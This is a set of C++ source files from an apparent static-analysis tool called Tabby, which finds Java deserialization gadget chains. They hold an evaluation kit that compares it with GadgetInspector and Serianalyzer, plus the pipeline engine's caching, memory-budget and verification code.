  std::string version;
  std::size_t jar_count = 0;
  double code_mb = 0.0;
  std::size_t result = 0;
  std::size_t effective = 0;
  double fpr = 0.0;
  double search_seconds = 0.0;
};

SceneRow evaluate_scene(const corpus::Scene& scene);

// --- Ground-truth self-check --------------------------------------------------

struct VerificationOutcome {
  std::size_t truths_checked = 0;
  std::size_t truths_effective = 0;   // must equal checked
  std::size_t fakes_checked = 0;
  std::size_t fakes_refuted = 0;      // must equal checked
  std::vector<std::string> failures;  // human-readable discrepancies

  bool all_good() const {
    return failures.empty() && truths_effective == truths_checked &&
           fakes_refuted == fakes_checked;
  }
};

/// Executes every recipe in the VM: real chains must fire their sink with a
/// satisfied trigger; fake attempts must not. Reflection-gated truths are
/// skipped (no recipe by definition).
VerificationOutcome verify_ground_truth(const jir::Program& program,
                                        const std::vector<corpus::GroundTruthChain>& truths,
                                        const std::vector<corpus::FakeStructure>& fakes);

}  // namespace tabby::evalkit
