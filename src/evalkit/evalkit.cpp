#include "evalkit/evalkit.hpp"

#include <algorithm>

#include "baseline/baselines.hpp"
#include "cpg/builder.hpp"
#include "runtime/vm.hpp"
#include "util/timer.hpp"

namespace tabby::evalkit {

std::string_view tool_name(Tool tool) {
  switch (tool) {
    case Tool::Tabby: return "Tabby";
    case Tool::GadgetInspector: return "GadgetInspector";
    case Tool::Serianalyzer: return "Serianalyzer";
  }
  return "?";
}

ToolRun run_tool(Tool tool, const jir::Program& program, const std::string& package_filter) {
  ToolRun run;
  util::Stopwatch watch;
  switch (tool) {
    case Tool::Tabby: {
      cpg::Cpg cpg = cpg::build_cpg(program);
      finder::GadgetChainFinder finder(cpg.db);
      finder::FinderReport report = finder.find_all();
      run.chains = std::move(report.chains);
      run.exploded = report.budget_exhausted;
      break;
    }
    case Tool::GadgetInspector: {
      baseline::BaselineReport report = baseline::run_gadget_inspector(program);
      run.chains = std::move(report.chains);
      run.exploded = report.exploded;
      break;
    }
    case Tool::Serianalyzer: {
      baseline::SerianalyzerOptions options;
      options.package_filter = package_filter;
      baseline::BaselineReport report = baseline::run_serianalyzer(program, options);
      run.chains = std::move(report.chains);
      run.exploded = report.exploded;
      break;
    }
  }
  run.seconds = watch.elapsed_seconds();
  return run;
}

namespace {

bool matches(const finder::GadgetChain& chain, const corpus::GroundTruthChain& truth) {
  if (chain.source_signature() != truth.source_signature) return false;
  if (chain.sink_signature() != truth.sink_signature) return false;
  for (const std::string& witness : truth.witnesses) {
    if (std::find(chain.signatures.begin(), chain.signatures.end(), witness) ==
        chain.signatures.end()) {
      return false;
    }
  }
  return true;
}

}  // namespace

Classification classify(const std::vector<finder::GadgetChain>& chains,
                        const std::vector<corpus::GroundTruthChain>& truths) {
  Classification c;
  c.result = chains.size();
  std::vector<bool> truth_matched(truths.size(), false);
  for (const finder::GadgetChain& chain : chains) {
    bool matched = false;
    for (std::size_t i = 0; i < truths.size(); ++i) {
      if (truth_matched[i] || !matches(chain, truths[i])) continue;
      truth_matched[i] = true;
      matched = true;
      if (truths[i].known_in_dataset) {
        ++c.known;
      } else {
        ++c.unknown;
      }
      break;
    }
    if (!matched) ++c.fake;
  }
  return c;
}

double fpr_percent(const Classification& c) {
  // The paper's Table IX writes 0 or 100 for empty result sets depending on
  // whether anything was expected; with result == 0 there are no false
  // positives, so report 0.
  if (c.result == 0) return 0.0;
  return 100.0 * static_cast<double>(c.fake) / static_cast<double>(c.result);
}

double fnr_percent(const Classification& c, std::size_t known_in_dataset) {
  if (known_in_dataset == 0) return 0.0;
  return 100.0 *
         static_cast<double>(known_in_dataset - std::min(c.known, known_in_dataset)) /
         static_cast<double>(known_in_dataset);
}

namespace {

std::string package_of_component(const corpus::Component& component) {
  // Every planted class shares the leading package of the first truth/fake.
  std::string sig;
  if (!component.truths.empty()) {
    sig = component.truths.front().source_signature;
  } else if (!component.fakes.empty()) {
    sig = component.fakes.front().source_signature;
  }
  std::size_t hash_pos = sig.find('#');
  if (hash_pos == std::string::npos) return "";
  std::string cls = sig.substr(0, hash_pos);
  std::size_t last_dot = cls.rfind('.');
  return last_dot == std::string::npos ? cls : cls.substr(0, last_dot);
}

ComparisonRow::PerTool evaluate_tool(Tool tool, const corpus::Component& component,
                                     const jir::Program& program,
                                     const std::string& package_filter) {
  ToolRun run = run_tool(tool, program, package_filter);
  Classification c = classify(run.chains, component.truths);
  ComparisonRow::PerTool out;
  out.result = c.result;
  out.fake = c.fake;
  out.known = c.known;
  out.unknown = c.unknown;
  out.fpr = fpr_percent(c);
  out.fnr = fnr_percent(c, component.known_in_dataset());
  out.seconds = run.seconds;
  out.exploded = run.exploded;
  return out;
}

}  // namespace

ComparisonRow evaluate_component(const corpus::Component& component) {
  jir::Program program = component.link();
  ComparisonRow row;
  row.component = component.name;
  row.known_in_dataset = component.known_in_dataset();
  std::string pkg = package_of_component(component);
  row.gi = evaluate_tool(Tool::GadgetInspector, component, program, pkg);
  row.tb = evaluate_tool(Tool::Tabby, component, program, pkg);
  row.sl = evaluate_tool(Tool::Serianalyzer, component, program, pkg);
  return row;
}

SceneRow evaluate_scene(const corpus::Scene& scene) {
  SceneRow row;
  row.scene = scene.name;
  row.version = scene.version;
  row.jar_count = scene.jar_count();
  row.code_mb = static_cast<double>(scene.total_bytes()) / (1024.0 * 1024.0);

  jir::Program program = scene.link();
  cpg::Cpg cpg = cpg::build_cpg(program);
  util::Stopwatch watch;
  finder::GadgetChainFinder finder(cpg.db);
  finder::FinderReport report = finder.find_all();
  row.search_seconds = watch.elapsed_seconds();

  Classification c = classify(report.chains, scene.truths);
  row.result = c.result;
  row.effective = c.known + c.unknown;
  row.fpr = fpr_percent(c);
  return row;
}

VerificationOutcome verify_ground_truth(const jir::Program& program,
                                        const std::vector<corpus::GroundTruthChain>& truths,
                                        const std::vector<corpus::FakeStructure>& fakes) {
  VerificationOutcome outcome;
  jir::Hierarchy hierarchy(program);
  runtime::Interpreter vm(program, hierarchy);

  for (const corpus::GroundTruthChain& truth : truths) {
    if (truth.requires_reflection) continue;  // invisible by design
    ++outcome.truths_checked;
    runtime::ObjectPtr root = runtime::instantiate(truth.recipe);
    runtime::ExecutionResult result = vm.deserialize(root);
    if (result.attack_succeeded(truth.sink_signature)) {
      ++outcome.truths_effective;
    } else {
      outcome.failures.push_back("truth " + truth.id + " did not fire its sink (" +
                                 result.fault + ")");
    }
  }
  for (const corpus::FakeStructure& fake : fakes) {
    ++outcome.fakes_checked;
    runtime::ObjectPtr root = runtime::instantiate(fake.attempt_recipe);
    runtime::ExecutionResult result = vm.deserialize(root);
    if (!result.attack_succeeded()) {
      ++outcome.fakes_refuted;
    } else {
      outcome.failures.push_back("fake " + fake.id + " unexpectedly fired a sink");
    }
  }
  return outcome;
}

}  // namespace tabby::evalkit
