#include "pipeline/engine.hpp"

#include <filesystem>
#include <system_error>
#include <utility>

#include "corpus/jdk.hpp"
#include "jar/archive.hpp"
#include "obs/obs.hpp"
#include "util/digest.hpp"
#include "util/strings.hpp"

namespace tabby::pipeline {

namespace {

/// Anchors an optional phase budget as a Deadline starting now — phases own
/// their budgets from the moment they start, never from request arrival.
util::Deadline anchor(const std::optional<std::chrono::milliseconds>& budget) {
  return budget.has_value() ? util::Deadline::after(*budget) : util::Deadline{};
}

/// Bytes an Outcome keeps resident. The frozen frame and store bytes are
/// exact; a decoded GraphDb (mutable vectors + property maps) is estimated
/// from its node/edge counts. The estimate only has to be stable and
/// monotone in graph size — admission compares sums of it against the cap,
/// it never pretends to be an allocator audit.
std::size_t resident_estimate(const Outcome& outcome) {
  std::size_t bytes = 0;
  if (outcome.frozen.has_value()) bytes += outcome.frozen->frame().size();
  bytes += outcome.graph_bytes.size();
  if (!outcome.db_skipped) {
    bytes += outcome.db.node_count() * 192 + outcome.db.edge_count() * 64;
  }
  if (outcome.program.has_value()) {
    bytes += outcome.program->method_count() * 512;
  }
  return bytes;
}

}  // namespace

bool is_over_capacity(const util::Error& error) {
  return util::starts_with(error.message, kOverCapacityPrefix);
}

// --- Analysis ---------------------------------------------------------------

FindResult Analysis::find(const ExecContext& ctx) const {
  obs::Span span("engine.find");
  finder::FinderOptions options;
  options.max_depth = ctx.max_depth;
  options.executor = executor_;
  // The finder races whatever is left of the request budget, tightened with
  // its own phase budget anchored now, at finder start.
  util::Deadline deadline = ctx.deadline;
  deadline.bind(ctx.cancel);
  options.deadline = deadline.tightened(anchor(ctx.finder_budget));
  options.frontier_byte_pool = ctx.frontier_byte_pool;
  options.memory = memory_;
  options.dist.workers = ctx.workers;

  // Same search, same report bytes — the frozen finder only changes how the
  // adjacency and properties are read.
  finder::GadgetChainFinder finder = outcome_.frozen.has_value()
                                         ? finder::GadgetChainFinder(*outcome_.frozen, options)
                                         : finder::GadgetChainFinder(outcome_.db, options);
  FindResult result;
  result.report = finder.find_all();
  result.used_frozen = outcome_.frozen.has_value();
  // Every entry point reports the same degradation: the open-phase units
  // merged with the finder's partial view (previously each caller filled
  // partial_sinks/frontier_pruned — or forgot to).
  result.degradation = outcome_.degradation;
  result.degradation.partial_sinks = result.report.partial_sinks.size();
  result.degradation.frontier_pruned = result.report.frontier_pruned;
  if (dist_ != nullptr && result.report.dist_stats.any()) {
    dist_->accumulate(result.report.dist_stats);
  }

  // The verify post-pass (docs/ROBUSTNESS.md, "Runtime re-validation"):
  // supervised per-chain re-execution with its own anchored phase budget.
  // Requires the linked program (OpenOptions::need_program); without one the
  // request simply returns unverified — the CLI opens with need_program
  // whenever --verify is set.
  if (ctx.verify && outcome_.program.has_value()) {
    finder::VerifyOptions vopts;
    util::Deadline verify_deadline = ctx.deadline;
    verify_deadline.bind(ctx.cancel);
    vopts.deadline = verify_deadline.tightened(anchor(ctx.verify_budget));
    vopts.executor = executor_;
    vopts.memory = memory_;
    vopts.dist.workers = ctx.verify_workers;
    if (verdict_cache_ != nullptr && fingerprint_ != 0) {
      // Key = classpath fingerprint × verdict-relevant options — a changed
      // archive or budget produces different keys, never a stale hit.
      util::Fnv1a key;
      key.update_u64(fingerprint_);
      key.update_u64(finder::verify_options_fingerprint(vopts));
      vopts.cache_fingerprint = key.digest();
      cache::AnalysisCache* cache = verdict_cache_;
      vopts.cache_load = [cache](std::uint64_t k) -> std::optional<finder::ChainVerdict> {
        auto hit = cache->load_verdict(k);
        if (!hit.has_value()) return std::nullopt;
        finder::ChainVerdict verdict;
        verdict.verdict = static_cast<finder::Verdict>(hit->verdict);
        verdict.reason = static_cast<finder::UnconfirmedReason>(hit->reason);
        verdict.steps = static_cast<std::size_t>(hit->steps);
        verdict.detail = std::move(hit->detail);
        return verdict;
      };
      vopts.cache_store = [cache](std::uint64_t k, const finder::ChainVerdict& verdict) {
        cache::CachedVerdict stored;
        stored.verdict = static_cast<std::uint8_t>(verdict.verdict);
        stored.reason = static_cast<std::uint8_t>(verdict.reason);
        stored.steps = verdict.steps;
        stored.detail = verdict.detail;
        (void)cache->store_verdict(k, stored);  // best-effort publish
      };
    }
    finder::AliasView aliases = outcome_.frozen.has_value()
                                    ? finder::AliasView(*outcome_.frozen)
                                    : finder::AliasView(outcome_.db);
    result.verify =
        finder::verify_chains(*outcome_.program, aliases, result.report.chains, vopts);
    result.verified = true;
    result.degradation.unconfirmed_chains = result.verify.unconfirmed;
    if (dist_ != nullptr && result.verify.dist_stats.any()) {
      dist_->accumulate(result.verify.dist_stats);
    }
  }
  return result;
}

util::Result<cypher::QueryResult> Analysis::query(std::string_view text,
                                                  const ExecContext& ctx) const {
  obs::Span span("engine.query");
  cypher::QueryOptions options;
  options.use_planner = ctx.use_planner;
  options.executor = executor_;
  options.memory = memory_;
  return outcome_.frozen.has_value() ? cypher::run_query(*outcome_.frozen, text, options)
                                     : cypher::run_query(outcome_.db, text, options);
}

std::string Analysis::render(const cypher::QueryResult& result) const {
  std::string out = outcome_.frozen.has_value() ? result.to_string(*outcome_.frozen)
                                                : result.to_string(outcome_.db);
  out += "(";
  out += std::to_string(result.rows.size());
  out += " row(s))\n";
  return out;
}

// --- Engine -----------------------------------------------------------------

Engine::Engine(EngineOptions options) : options_(std::move(options)) {
  pool_ = make_pool(options_.jobs);
  if (options_.memory_budget_bytes > 0) {
    budget_ = std::make_unique<util::MemoryBudget>(options_.memory_budget_bytes);
  }
  if (!options_.cache_dir.empty()) {
    // Best-effort: an unopenable cache directory disables verdict caching
    // without failing engine construction (run() reports the real error on
    // the snapshot path).
    auto cache = cache::AnalysisCache::open(options_.cache_dir);
    if (cache.ok()) {
      verdict_cache_ = std::make_unique<cache::AnalysisCache>(std::move(cache.value()));
    }
  }
}

Engine::~Engine() = default;

std::optional<std::uint64_t> Engine::fingerprint_classpath(
    const std::vector<std::string>& jar_paths) const {
  std::vector<std::uint64_t> digests;
  digests.reserve(jar_paths.size() + 1);
  if (options_.with_jdk) {
    digests.push_back(util::fnv1a(jar::write_archive(corpus::jdk_base_archive())));
  }
  for (const std::string& path : jar_paths) {
    auto digest = cache::AnalysisCache::digest_file(path);
    // An undigestable archive means the key cannot describe the on-disk
    // bytes: the open still runs (quarantine may salvage it), but the
    // result must not be resident under a lying key.
    if (!digest.ok()) return std::nullopt;
    digests.push_back(digest.value());
  }
  return cache::AnalysisCache::snapshot_key(cpg::options_fingerprint(cpg::CpgOptions{}), digests);
}

util::Result<AnalysisPtr> Engine::open(const std::vector<std::string>& jar_paths,
                                       const ExecContext& ctx, const OpenOptions& opts) {
  obs::Span span("engine.open");
  obs::counter_add("engine.opens");
  const bool want_frozen = opts.use_frozen.value_or(options_.use_frozen);
  std::optional<std::uint64_t> fp = fingerprint_classpath(jar_paths);

  if (fp.has_value()) {
    std::lock_guard<std::mutex> lock(mutex_);
    ++opens_;
    auto it = resident_.find(*fp);
    if (it != resident_.end()) {
      const Outcome& have = it->second.analysis->outcome();
      // A resident analysis satisfies this open only when it materialized
      // everything the open needs; otherwise fall through and rebuild (the
      // replacement below upgrades the resident entry in place).
      bool satisfies = (!opts.need_program || have.program.has_value()) &&
                       (!opts.need_graph_bytes || !have.graph_bytes.empty()) &&
                       (want_frozen || !have.db_skipped);
      if (satisfies) {
        ++it->second.hits;
        ++resident_hits_;
        obs::counter_add("engine.resident_hits");
        lru_.erase(it->second.lru);
        lru_.push_front(*fp);
        it->second.lru = lru_.begin();
        return AnalysisPtr(it->second.analysis);
      }
    }
  } else {
    std::lock_guard<std::mutex> lock(mutex_);
    ++opens_;
  }

  // Cheap pre-admission check: when even the raw classpath bytes exceed the
  // whole budget, reject before decoding a single archive — no eviction
  // could make the analysis fit.
  if (opts.require_admission && budget_ != nullptr && budget_->bounded()) {
    std::uintmax_t raw_bytes = 0;
    for (const std::string& path : jar_paths) {
      std::error_code ec;
      std::uintmax_t size = std::filesystem::file_size(path, ec);
      if (!ec) raw_bytes += size;
    }
    if (raw_bytes > budget_->cap()) {
      std::lock_guard<std::mutex> lock(mutex_);
      ++over_capacity_;
      obs::counter_add("engine.over_capacity");
      return util::Error{std::string(kOverCapacityPrefix) + "classpath is " +
                         std::to_string(raw_bytes) + " raw byte(s); engine budget is " +
                         std::to_string(budget_->cap()) + " byte(s)"};
    }
  }

  Options options;
  options.with_jdk = options_.with_jdk;
  options.cache_dir = options_.cache_dir;
  options.need_program = opts.need_program;
  options.need_graph_bytes = opts.need_graph_bytes;
  options.use_frozen = want_frozen;
  options.executor = pool_.get();
  options.policy = ctx.policy;
  options.deadline = ctx.deadline;
  options.load_deadline = anchor(ctx.load_budget);
  options.cancel = ctx.cancel;
  options.memory = budget_.get();

  auto outcome = run(jar_paths, options);
  if (!outcome.ok()) return outcome.error();

  auto analysis = std::shared_ptr<Analysis>(new Analysis());
  analysis->outcome_ = std::move(outcome.value());
  analysis->fingerprint_ = fp.value_or(0);
  analysis->executor_ = pool_.get();
  analysis->memory_ = budget_.get();
  analysis->dist_ = &dist_telemetry_;
  analysis->verdict_cache_ = verdict_cache_.get();
  analysis->resident_bytes_ = resident_estimate(analysis->outcome_);

  if (!fp.has_value()) return AnalysisPtr(std::move(analysis));

  std::lock_guard<std::mutex> lock(mutex_);
  // Another request may have built and admitted the same classpath while
  // this one ran unlocked; keep whichever is already resident when it
  // satisfies the request (first admit wins — both are byte-identical).
  auto it = resident_.find(*fp);
  if (it != resident_.end()) {
    const Outcome& have = it->second.analysis->outcome();
    bool satisfies = (!opts.need_program || have.program.has_value()) &&
                     (!opts.need_graph_bytes || !have.graph_bytes.empty()) &&
                     (want_frozen || !have.db_skipped);
    if (satisfies) return AnalysisPtr(it->second.analysis);
    evict_locked(*fp);
  }
  if (budget_ != nullptr && budget_->bounded()) {
    make_room_locked(analysis->resident_bytes_);
    if (resident_bytes_ + analysis->resident_bytes_ > budget_->cap()) {
      if (opts.require_admission) {
        ++over_capacity_;
        obs::counter_add("engine.over_capacity");
        return util::Error{std::string(kOverCapacityPrefix) + "analysis needs " +
                           std::to_string(analysis->resident_bytes_) +
                           " resident byte(s); engine budget is " +
                           std::to_string(budget_->cap()) + " byte(s) with " +
                           std::to_string(resident_bytes_) + " already resident"};
      }
      // One-shot caller: hand the analysis back non-resident instead of
      // rejecting — the handle's lifetime is the caller's problem, the
      // engine keeps governing only what it retains.
      return AnalysisPtr(std::move(analysis));
    }
  }
  // Admitted: the resident bytes are charged to the engine ledger for the
  // lifetime of residency (telemetry; admission itself compares the exact
  // sums above, never the racy live total).
  util::maybe_charge(budget_.get(), analysis->resident_bytes_);
  resident_bytes_ += analysis->resident_bytes_;
  lru_.push_front(*fp);
  Entry entry;
  entry.analysis = analysis;
  entry.lru = lru_.begin();
  resident_.emplace(*fp, std::move(entry));
  if (options_.max_resident > 0) {
    while (resident_.size() > options_.max_resident && !lru_.empty()) {
      // Evict idle entries beyond the count cap, LRU first. Entries pinned
      // by in-flight requests are skipped; the cap is re-applied on the
      // next open once they quiesce.
      bool evicted = false;
      for (auto rit = lru_.rbegin(); rit != lru_.rend(); ++rit) {
        if (*rit == *fp) continue;  // never evict the analysis just opened
        auto candidate = resident_.find(*rit);
        if (candidate != resident_.end() && candidate->second.analysis.use_count() == 1) {
          evict_locked(*rit);
          evicted = true;
          break;
        }
      }
      if (!evicted) break;
    }
  }
  return AnalysisPtr(std::move(analysis));
}

AnalysisPtr Engine::open(const jir::Program& program, const ExecContext& ctx,
                         const OpenOptions& opts) {
  obs::Span span("engine.open");
  Options options;
  options.with_jdk = options_.with_jdk;
  options.need_program = opts.need_program;
  options.use_frozen = opts.use_frozen.value_or(options_.use_frozen);
  options.executor = pool_.get();
  options.policy = ctx.policy;
  options.deadline = ctx.deadline;
  options.cancel = ctx.cancel;
  options.memory = budget_.get();
  auto analysis = std::shared_ptr<Analysis>(new Analysis());
  analysis->outcome_ = run(program, options);
  analysis->executor_ = pool_.get();
  analysis->memory_ = budget_.get();
  analysis->dist_ = &dist_telemetry_;
  analysis->verdict_cache_ = verdict_cache_.get();
  analysis->resident_bytes_ = resident_estimate(analysis->outcome_);
  {
    std::lock_guard<std::mutex> lock(mutex_);
    ++opens_;
  }
  return AnalysisPtr(std::move(analysis));
}

std::size_t Engine::evict_locked(std::uint64_t fingerprint) {
  auto it = resident_.find(fingerprint);
  if (it == resident_.end()) return 0;
  std::size_t bytes = it->second.analysis->resident_bytes();
  lru_.erase(it->second.lru);
  resident_.erase(it);
  resident_bytes_ -= bytes;
  util::maybe_release(budget_.get(), bytes);
  ++evictions_;
  obs::counter_add("engine.evictions");
  // The callback is the Katana-style eviction hook: by the time it fires
  // the engine no longer references the analysis, so once request holders
  // drop their handles the frozen frame is unmapped.
  if (options_.on_evict) options_.on_evict(fingerprint, bytes);
  return bytes;
}

void Engine::make_room_locked(std::size_t needed) {
  if (budget_ == nullptr || !budget_->bounded()) return;
  while (resident_bytes_ + needed > budget_->cap() && !lru_.empty()) {
    bool evicted = false;
    for (auto rit = lru_.rbegin(); rit != lru_.rend(); ++rit) {
      auto it = resident_.find(*rit);
      if (it != resident_.end() && it->second.analysis.use_count() == 1) {
        evict_locked(*rit);
        evicted = true;
        break;
      }
    }
    if (!evicted) return;  // everything left is pinned by in-flight requests
  }
}

bool Engine::evict(std::uint64_t fingerprint) {
  std::lock_guard<std::mutex> lock(mutex_);
  return evict_locked(fingerprint) > 0 || false;
}

std::size_t Engine::evict_all() {
  std::lock_guard<std::mutex> lock(mutex_);
  std::size_t count = 0;
  while (!lru_.empty()) {
    std::uint64_t fp = lru_.back();
    if (evict_locked(fp) == 0) {
      // Pinned (in use): leave it resident, but stop — the LRU tail no
      // longer shrinks.
      break;
    }
    ++count;
  }
  return count;
}

EngineStats Engine::stats() const {
  std::lock_guard<std::mutex> lock(mutex_);
  EngineStats stats;
  stats.resident_bytes = resident_bytes_;
  stats.opens = opens_;
  stats.resident_hits = resident_hits_;
  stats.evictions = evictions_;
  stats.over_capacity = over_capacity_;
  stats.budget_bytes = budget_ != nullptr ? budget_->cap() : 0;
  stats.dist_workers_spawned = dist_telemetry_.workers_spawned.load(std::memory_order_relaxed);
  stats.dist_respawns = dist_telemetry_.respawns.load(std::memory_order_relaxed);
  stats.dist_crashes = dist_telemetry_.crashes.load(std::memory_order_relaxed);
  stats.dist_retries = dist_telemetry_.retries.load(std::memory_order_relaxed);
  stats.dist_reassignments = dist_telemetry_.reassignments.load(std::memory_order_relaxed);
  stats.dist_heartbeat_misses = dist_telemetry_.heartbeat_misses.load(std::memory_order_relaxed);
  for (std::uint64_t fp : lru_) {
    auto it = resident_.find(fp);
    if (it == resident_.end()) continue;
    stats.entries.push_back(
        {fp, it->second.analysis->resident_bytes(), it->second.hits});
  }
  return stats;
}

}  // namespace tabby::pipeline
