// The public pipeline facade: everything between "a classpath of .tjar
// files" and "a queryable CPG" behind one call, so library consumers get the
// exact orchestration the `tabby` CLI uses — archive decode (parallel),
// classpath linking, the incremental cache's warm/cold logic, CPG
// construction and snapshot publishing — without re-implementing it from the
// module-level APIs. The CLI, examples/quickstart and
// examples/audit_component are all thin callers of this header.
//
// Errors are structured (util::Result), never pre-formatted text on a
// stream: callers decide how to render them. Everything here is observable
// via src/obs — run() is wrapped in a "pipeline.run" span and each stage
// records its own spans and counters (see docs/OBSERVABILITY.md).
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "cache/cache.hpp"
#include "cpg/builder.hpp"
#include "graph/graph.hpp"
#include "jir/model.hpp"
#include "util/result.hpp"
#include "util/thread_pool.hpp"

namespace tabby::pipeline {

/// What to run and how. The zero-argument default is the plain cold
/// pipeline: simulated JDK + archives, no cache, serial.
struct Options {
  /// Prefix the simulated JDK archive to the classpath (the analyzed world
  /// normally includes it; baselines and tests may turn it off).
  bool with_jdk = true;
  /// Incremental analysis cache directory; empty = no cache (cold build).
  std::string cache_dir;
  /// Keep the linked jir::Program in the Outcome (needed for find --verify
  /// and the runtime VM; costs the link step even on a snapshot hit).
  bool need_program = false;
  /// Populate Outcome::graph_bytes (the exact `--store` serialization) even
  /// when no cache is in play. Cache runs always have them (snapshots embed
  /// the store bytes).
  bool need_graph_bytes = false;
  /// Worker pool for the parallel stages; nullptr = serial. Borrowed, must
  /// outlive run(). (make_pool() builds one from a --jobs-style count.)
  util::Executor* executor = nullptr;
  /// CPG construction knobs (sinks, sources, pruning, ablations). The
  /// executor field inside is overwritten with `executor` by run().
  cpg::CpgOptions cpg;
};

/// The CPG for one pipeline invocation, however it was obtained (cold build
/// or cache snapshot) — the library-level equivalent of one analyze/find/
/// query front half.
struct Outcome {
  graph::GraphDb db;
  cpg::CpgStats stats;
  /// graph::serialize(db), the exact bytes `--store` writes. Present on
  /// every cache run and whenever Options::need_graph_bytes was set.
  std::vector<std::byte> graph_bytes;
  /// The linked program, when Options::need_program was set.
  std::optional<jir::Program> program;
  /// True when the CPG came from a cache snapshot rather than a cold build.
  bool warm = false;
  /// The "cache:" stats line; empty when no cache was used.
  std::string cache_line;
  /// Non-fatal degradations (e.g. a snapshot publish that failed on a
  /// read-only cache directory), one message each. The run still succeeded.
  std::vector<std::string> warnings;
};

/// The worker pool behind a --jobs-style count. Returns null for an
/// effective job count of 1: every stage treats a null Executor* as "run
/// inline in index order", which is exactly the serial pipeline. `jobs` <= 0
/// means the hardware default.
std::unique_ptr<util::ThreadPool> make_pool(int jobs);

/// Reads .tjar files and links them into one closed-world program,
/// optionally prefixing the simulated JDK. The error identifies the
/// offending path.
util::Result<jir::Program> load_program(const std::vector<std::string>& paths, bool with_jdk,
                                        util::Executor* executor = nullptr);

/// The full cache-aware front end shared by analyze/find/query: digest the
/// classpath, warm-start from a snapshot when one matches, otherwise load
/// archives (through per-archive cache fragments when caching), link, build
/// the CPG and publish a new snapshot. Without a cache_dir this is the plain
/// cold pipeline.
util::Result<Outcome> run(const std::vector<std::string>& jar_paths, const Options& options);

/// In-memory variant: build the CPG for an already-linked program (no
/// archives, no cache). The path examples and embedding libraries use.
Outcome run(const jir::Program& program, const Options& options);

}  // namespace tabby::pipeline
