// The one-shot pipeline facade: everything between "a classpath of .tjar
// files" and "a queryable CPG" behind one call — archive decode (parallel),
// classpath linking, the incremental cache's warm/cold logic, CPG
// construction and snapshot publishing — without re-implementing it from the
// module-level APIs.
//
// run() is the COMPATIBILITY surface: one invocation, one Outcome, caller
// owns the pool/budget plumbing. New embedding code should prefer the
// session-oriented pipeline::Engine (pipeline/engine.hpp, docs/SERVING.md),
// which wraps this same machinery, keeps analyses resident across requests,
// and consolidates the per-request knobs in one ExecContext; the CLI, the
// examples and the `tabby serve` daemon all go through it. Engine results
// are byte-identical to run() — this header is not deprecated, just no
// longer the first thing to reach for.
//
// Errors are structured (util::Result), never pre-formatted text on a
// stream: callers decide how to render them. Everything here is observable
// via src/obs — run() is wrapped in a "pipeline.run" span and each stage
// records its own spans and counters (see docs/OBSERVABILITY.md).
//
// Failure handling is policy-driven (docs/ROBUSTNESS.md): under the strict
// policy any malformed input fails the run; under quarantine, broken units
// (archives, class records, cache entries) are recorded in a structured
// DegradationReport and analysis continues with the surviving program —
// the CPG builder and finder already tolerate the resulting holes via
// phantom nodes. Wall-clock budgets (Options::deadline) and cancellation
// (Options::cancel) are cooperative: stages poll at unit boundaries and
// report what they skipped.
#pragma once

#include <chrono>
#include <optional>
#include <string>
#include <vector>

#include "cache/cache.hpp"
#include "cpg/builder.hpp"
#include "graph/frozen.hpp"
#include "graph/graph.hpp"
#include "jir/model.hpp"
#include "util/deadline.hpp"
#include "util/memory_budget.hpp"
#include "util/result.hpp"
#include "util/thread_pool.hpp"

namespace tabby::pipeline {

/// What a stage does when one input unit is broken.
enum class FailurePolicy {
  /// Fail the whole run on the first malformed unit (the library default:
  /// embedding callers must opt into partial answers).
  kStrict,
  /// Record the unit in the DegradationReport, drop it, and continue with
  /// the surviving program. The run only fails when nothing survives.
  kQuarantine,
};

/// One quarantined unit: what broke, where, and how much input was lost.
struct DegradedUnit {
  std::string unit;   // archive path, "path [classes i..)", sink signature
  std::string stage;  // "fs-read" | "archive-decode" | "class-decode" | "deadline" | ...
  std::string error;  // the underlying structured error, rendered
  std::size_t bytes_skipped = 0;

  std::string to_string() const;
};

/// Everything a fail-soft run degraded on. Empty report = clean run. The
/// CLI maps a non-empty report to exit code 3 (completed with degradation).
struct DegradationReport {
  std::vector<DegradedUnit> units;
  /// The run observed an expired deadline and skipped remaining work.
  bool deadline_hit = false;
  /// Finder sinks cut short by the deadline or memory pressure. run() stops
  /// at the CPG and leaves this 0; Analysis::find (pipeline/engine.hpp)
  /// fills it from the finder report for every entry point.
  std::size_t partial_sinks = 0;
  /// Frontier branches the finder pruned to stay under its byte budget
  /// (> 0 implies MemoryPressure partials). Same ownership as
  /// partial_sinks: populated by Analysis::find, not by run().
  std::size_t frontier_pruned = 0;
  /// Chains the verify post-pass left UNCONFIRMED (budget / timeout / crash /
  /// fault — the chain is kept, the run degrades). Same ownership as
  /// partial_sinks: populated by Analysis::find under --verify.
  std::size_t unconfirmed_chains = 0;

  bool degraded() const {
    return !units.empty() || deadline_hit || partial_sinks > 0 || frontier_pruned > 0 ||
           unconfirmed_chains > 0;
  }
  void add(std::string unit, std::string stage, std::string error, std::size_t bytes_skipped = 0) {
    units.push_back({std::move(unit), std::move(stage), std::move(error), bytes_skipped});
  }
  /// One "degraded: ..." line per unit plus a summary line; empty string
  /// for a clean report.
  std::string to_string() const;
};

/// What to run and how. The zero-argument default is the plain cold
/// pipeline: simulated JDK + archives, no cache, serial.
struct Options {
  /// Prefix the simulated JDK archive to the classpath (the analyzed world
  /// normally includes it; baselines and tests may turn it off).
  bool with_jdk = true;
  /// Incremental analysis cache directory; empty = no cache (cold build).
  std::string cache_dir;
  /// Keep the linked jir::Program in the Outcome (needed for find --verify
  /// and the runtime VM; costs the link step even on a snapshot hit).
  bool need_program = false;
  /// Populate Outcome::graph_bytes (the exact `--store` serialization) even
  /// when no cache is in play. Cache runs always have them (snapshots embed
  /// the store bytes).
  bool need_graph_bytes = false;
  /// Also freeze the CPG into an immutable CSR snapshot (Outcome::frozen),
  /// the representation the finder and cypher hot paths prefer (see
  /// docs/GRAPH.md). Cache runs publish the frame next to the snapshot
  /// (snapshots/<key>.tfzn); a warm start mmaps it zero-copy and skips the
  /// graph-store decode entirely (Outcome::db_skipped). Fail-soft both ways:
  /// a freeze failure or a corrupt cached frame degrades to the store-backed
  /// graph with a warning, never a run failure. Off by default at the
  /// library level — every query result is byte-identical either way, so
  /// existing embedders see no change; the CLI enables it (--frozen).
  bool use_frozen = false;
  /// Worker pool for the parallel stages; nullptr = serial. Borrowed, must
  /// outlive run(). (make_pool() builds one from a --jobs-style count.)
  util::Executor* executor = nullptr;
  /// CPG construction knobs (sinks, sources, pruning, ablations). The
  /// executor field inside is overwritten with `executor` by run().
  cpg::CpgOptions cpg;
  /// Per-unit failure handling; see FailurePolicy.
  FailurePolicy policy = FailurePolicy::kStrict;
